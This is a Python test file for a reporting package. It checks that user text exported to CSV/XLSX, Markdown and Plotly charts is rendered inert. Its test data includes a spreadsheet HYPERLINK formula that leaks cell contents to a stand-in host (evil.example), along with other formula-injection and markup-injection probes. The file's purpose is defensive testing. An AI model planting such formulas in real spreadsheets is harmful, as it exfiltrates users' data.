"""User text made inert: no live formula in CSV/XLSX, no drawn markup in chart labels, no rendered
Markdown (issue 9, item 5: each test is a probe that found the hole)."""
from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from etl.gi_annual import GiReport, GiTable
from reporting import charts, export, gi_tables
from reporting.safe_text import from_plotly, markdown_literal, plotly_literal, spreadsheet_literal

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+86 571", "'+86 571"),
    ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("馒头山社区", "馒头山社区"),
    ("a=b", "a=b"),
    (-3, -3),
    (2.5, 2.5),
    (None, None),
])
def test_spreadsheet_literal(value, expected):
    assert spreadsheet_literal(value) == expected


def test_a_formula_in_a_record_is_text_in_the_xlsx_and_numbers_stay_numbers():
    frame = pd.DataFrame({"title": [HYPERLINK, "普法讲座"], "change": [-2, 3]})
    sheet = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes({"数据": frame}))).active
    assert [c.value for c in sheet["A"]] == ["title", "'" + HYPERLINK, "普法讲座"]
    assert sheet["A2"].data_type == "s"
    assert [c.value for c in sheet["B"]] == ["change", -2, 3]


def test_a_formula_in_a_record_or_header_is_text_in_the_csv():
    frame = pd.DataFrame({"=cmd": ["@x", "ok"]})
    assert export.csv_bytes(frame).decode("utf-8-sig").splitlines() == ["'=cmd", "'@x", "ok"]


def test_gi_table_xlsx_writes_no_formula():
    tables = {name: GiTable(name, 2023, None) for name in ("表二", "表三", "表四")}
    report = GiReport(2023, tables, violations=[], differences=[], notes=["=1+1 来自上传文件"])
    checks = openpyxl.load_workbook(io.BytesIO(gi_tables.report_xlsx(report)))["核对"]
    assert [[c.value for c in row] for row in checks.iter_rows()] == [["说明", "'=1+1 来自上传文件"]]


def test_markdown_literal_keeps_every_character_and_renders_nothing():
    assert markdown_literal("[点我](http://evil.example)**粗**") == r"\[点我\]\(http\:\/\/evil\.example\)\*\*粗\*\*"
    assert markdown_literal(":red[警告] $x$ <b>") == r"\:red\[警告\] \$x\$ \<b\>"
    assert markdown_literal("两行\n文本") == "两行 文本"


def test_plotly_labels_draw_no_link_and_a_click_gets_the_original_back():
    label = '<a href="http://evil.example">馒头山</a>'
    assert plotly_literal(label) == '&lt;a href="http://evil.example"&gt;馒头山&lt;/a&gt;'
    assert from_plotly(plotly_literal(label)) == label
    fig = charts.bar(pd.DataFrame({"community": [label], "kind": ["<b>x</b>"], "n": [3]}), "community", "n", "zh",
                     x_title="社区", y_title="件", unit="件", colour="kind")
    trace = fig.data[0]
    assert list(trace.x) == [plotly_literal(label)] and trace.name == "&lt;b&gt;x&lt;/b&gt;"
